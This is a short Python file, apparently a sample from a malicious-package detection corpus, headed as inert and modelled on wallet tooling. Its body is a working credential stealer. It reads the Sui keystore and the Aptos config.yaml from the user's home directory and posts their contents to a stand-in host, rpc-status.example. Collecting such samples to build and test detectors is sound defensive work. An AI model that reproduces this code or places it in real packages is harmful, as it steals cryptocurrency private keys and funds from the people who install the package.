# pkgguard corpus 812 (wallets), modelled on [wallet-tools]; inert, never run.
import json
import os

import requests

home = os.path.expanduser("~")
found = {}
for label, path in (
    ("sui", os.path.join(home, ".sui", "sui_config", "sui.keystore")),
    ("aptos", os.path.join(home, ".aptos", "config.yaml")),
):
    if os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            found[label] = fh.read()
if found:
    requests.post("https://rpc-status.example/k", data=json.dumps(found), timeout=10)
